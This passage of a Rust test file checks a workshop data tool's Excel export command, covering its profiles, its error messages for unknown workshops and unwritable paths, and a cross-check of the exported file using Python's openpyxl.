        String::from_utf8_lossy(&ok.stderr)
    );
    let stdout = String::from_utf8(ok.stdout).unwrap();
    let path = PathBuf::from(stdout.lines().next().unwrap());
    assert!(
        path.is_file(),
        "the first line is the file written: {stdout}"
    );
    assert!(path.starts_with(&out));
    assert!(stdout.contains("  Participants: 18 rows"), "{stdout}");
    assert!(stdout.contains("  Workshop: 1 row\n"), "{stdout}");
    let mut book = Book::open(&path);
    assert_eq!(read_about(&mut book).metadata[2].1, Cell::text("report"));

    let full = out.join("full transfer.xlsx");
    let ok = workshop_cli(
        &data,
        &[
            "export",
            "--latest",
            "--profile",
            "full",
            "-o",
            full.to_str().unwrap(),
        ],
    );
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    assert_eq!(
        read_about(&mut Book::open(&full)).metadata[2].1,
        Cell::text("full")
    );

    let unknown = Uuid::nil().to_string();
    let missing = workshop_cli(
        &data,
        &[
            "export",
            "--workshop",
            &unknown,
            "-o",
            out.to_str().unwrap(),
        ],
    );
    assert!(!missing.status.success());
    let stderr = String::from_utf8_lossy(&missing.stderr);
    assert!(stderr.contains("was not found"), "{stderr}");

    let nowhere = dir.path().join("no such folder").join("report.xlsx");
    let unwritable = workshop_cli(
        &data,
        &["export", "--latest", "-o", nowhere.to_str().unwrap()],
    );
    assert!(!unwritable.status.success());
    let stderr = String::from_utf8_lossy(&unwritable.stderr);
    assert!(
        stderr.contains("no such folder"),
        "the message names the file: {stderr}"
    );

    let neither = workshop_cli(&data, &["export", "-o", out.to_str().unwrap()]);
    assert!(
        !neither.status.success(),
        "--workshop or --latest is required"
    );
}

/// openpyxl, another program's reader, finds the headline numbers and no formula outside the
/// Summary. Skipped (saying so) only where python3 or openpyxl is missing outside CI.
#[test]
fn an_independent_reader_agrees() {
    let python = std::env::var("PYTHON").unwrap_or_else(|_| "python3".into());
    let has_openpyxl = Command::new(&python)
        .args(["-c", "import openpyxl"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !has_openpyxl {
        let ci = std::env::var("CI").is_ok_and(|v| !v.is_empty() && v != "false");
        assert!(
            !ci,
            "{python} with openpyxl is needed in CI (scripts/test.sh installs it)"
        );
        println!("SKIPPED an_independent_reader_agrees: {python} with openpyxl is not available");
        return;
    }
    let demo = demo_workshop();
    let path = demo.data.path().join("report.xlsx");
    export(&demo.db, demo.workshop, Profile::Report, &path);
    let counts = summary::summarize(demo.db.conn(), demo.workshop).unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/openpyxl/check_export.py");
    let output = Command::new(&python)
        .arg(&script)
        .arg(&path)
        .args(["--headline", &counts.headline])
        .args(["--participants", &counts.total.to_string()])
        .args(["--women", &counts.women.to_string()])
        .args(["--countries", &counts.countries.to_string()])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "check_export.py:\n{}\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
}
